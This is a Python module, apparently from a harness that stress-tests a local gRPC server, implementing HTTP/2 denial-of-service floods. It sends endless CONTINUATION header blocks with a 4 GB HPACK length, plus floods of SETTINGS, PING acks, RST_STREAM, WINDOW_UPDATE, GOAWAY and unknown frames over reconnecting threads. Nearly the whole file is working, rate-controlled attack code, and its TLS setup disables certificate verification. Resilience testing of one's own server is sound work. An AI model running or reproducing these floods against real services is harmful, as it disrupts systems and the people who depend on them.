"""Attacks with bytes of no use: frames that belong to no call, and header blocks that never end."""

from __future__ import annotations

import contextlib
import socket
import ssl
import struct
import threading
import time
from collections.abc import Iterator

import http2
from attack_target import Counts, Target, started
from http2 import frame

_CONTINUATION, _PRIORITY, _UNKNOWN = 9, 2, 187
# A literal header without indexing whose name is "k".
_NAME = b"\x00\x01k"
# The length of a header's value that never ends, 4 GB, in HPACK's integers of 7 bits.
_ENDLESS = b"\x7f" + bytes([0xFF] * 4) + b"\x0e"
CHECK = "/grpc.health.v1.Health/Check"
BUFFER_BYTES = 1 << 18
# The kinds of floods, each with the options of useless_bytes.
FLOODS: dict[str, dict[str, int]] = {
    "settings": {},
    "acknowledgements": {},
    "data of no stream": {},
    "window updates": {},
    "priorities": {},
    "resets of no stream": {},
    "goaway": {"number": 2},
    "unknown": {},
    "headers": {"number": 4},
    "header": {"number": 12, "bytes_per_second": 170_000},
}


def frames(kind: str) -> tuple[bytes, bytes]:
    """Returns the bytes with which a flood of this kind begins, and those that it repeats: whole frames."""
    begun = frame(http2.HEADERS, 0, 101, http2.header_block(http2.INFER))
    first, one = {
        "settings": (b"", frame(http2.SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))),
        "acknowledgements": (b"", frame(http2.PING, http2.ACK, 0, b"hostile!")),
        "data of no stream": (b"", frame(http2.DATA, 0, 99_999)),
        "window updates": (
            b"",
            frame(http2.WINDOW_UPDATE, 0, 99_999, struct.pack(">I", 1)),
        ),
        "priorities": (b"", frame(_PRIORITY, 0, 99_999, bytes(5))),
        "resets of no stream": (
            b"",
            frame(http2.RST_STREAM, 0, 99_999, struct.pack(">I", http2.CANCEL)),
        ),
        "goaway": (b"", frame(http2.GOAWAY, 0, 0, bytes(108))),
        "unknown": (b"", frame(_UNKNOWN, 0, 1, bytes(100))),
        "headers": (
            begun,
            frame(_CONTINUATION, 0, 101, (_NAME + b"\x64" + b"v" * 100) * 60),
        ),
        "header": (
            begun + frame(_CONTINUATION, 0, 101, _NAME + _ENDLESS),
            frame(_CONTINUATION, 0, 101, b"v" * 2048),
        ),
    }[kind]
    return first, one * max(1, BUFFER_BYTES // len(one))


def useless_bytes(
    target: Target,
    kind: str = "settings",
    number: int = 3,
    bytes_per_second: float = 0,
    tls: bool = False,
    beside: str = "",
    bytes_each: int = 0,
) -> Counts:
    """Sends frames of one kind over `number` connections at a time. A connection that ends is opened again.

    - bytes_per_second: over each connection. 0: as fast as the server takes them.
    - beside: the path of a call that is open, whose request does not come.
    - bytes_each: after so many bytes the attack closes the connection by itself. 0: never.
    """
    first, repeated = frames(kind)
    if beside:
        first = frame(http2.HEADERS, http2.END_HEADERS, 1, http2.header_block(beside)) + first
    sent = [0] * number
    opened = [0] * number
    closed = [0] * number

    def attack(i: int) -> None:
        while not target.is_over():
            with contextlib.suppress(OSError), _connected(target, tls) as one:
                one.sendall(http2.PREFACE + frame(http2.SETTINGS, 0, 0))
                one.recv(1 << 16)  # the server's SETTINGS; raises if it refuses the connection
                opened[i] += 1
                one.sendall(first)
                begin, here = time.monotonic(), 0
                step = min(len(repeated), int(bytes_per_second / 20) or len(repeated))
                try:
                    while not target.is_over() and not (bytes_each and here >= bytes_each):
                        at = here % len(repeated)
                        part = repeated[at : at + step]
                        one.sendall(part)
                        here += len(part)
                        if bytes_per_second:
                            time.sleep(
                                max(
                                    0.0,
                                    begin + here / bytes_per_second - time.monotonic(),
                                )
                            )
                        _drop_answers(one)
                except OSError:
                    closed[i] += 1
                sent[i] += here
            time.sleep(0.05)

    started()
    threads = [threading.Thread(target=attack, args=(i,), daemon=True) for i in range(number)]
    for thread in threads:
        thread.start()
    for thread in threads:
        while thread.is_alive():
            thread.join(0.1)
    return {
        "sent_mib": round(sum(sent) / 2**20, 1),
        "connections": sum(opened),
        "closed_by_server": sum(closed),
    }


@contextlib.contextmanager
def _connected(target: Target, tls: bool) -> Iterator[socket.socket]:
    with socket.create_connection(("127.0.0.1", target.grpc_port), 10, source_address=(target.source, 0)) as plain:
        if not tls:
            yield plain
            return
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        with context.wrap_socket(plain) as secure:
            yield secure


def _drop_answers(one: socket.socket) -> None:
    """Reads what has come, so that the server can send on."""
    one.setblocking(False)
    with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError):
        while one.recv(1 << 16):
            pass
    one.settimeout(10)
